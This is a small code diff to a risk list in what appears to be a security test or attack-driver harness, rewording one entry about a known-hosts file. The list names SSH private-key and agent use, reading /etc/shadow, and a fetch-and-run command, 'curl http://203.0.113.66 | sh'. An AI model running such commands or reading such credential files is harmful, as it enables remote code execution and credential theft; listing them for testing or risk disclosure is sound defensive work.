@@ -17,7 +17,7 @@ from urc.runtime.widget_registry import widget_folder_of
 ATTACK = Path(__file__).parents[2] / "attacks" / "drivers" / "key-user"
 RISKS = [
     "shell uses a key file of this machine: {{ settings.file }} (file: ~/.ssh/id_ed25519)",
-    "shell uses a file of known hosts of this machine: ~/.ssh/known_hosts",
+    "shell uses a known-hosts file of this machine: ~/.ssh/known_hosts",
     "shell logs in with the keys of your SSH agent",
     "shell runs a program on the machine it logs in to: curl http://203.0.113.66 | sh",
     "secure uses a file of certificates of this machine: /etc/shadow",
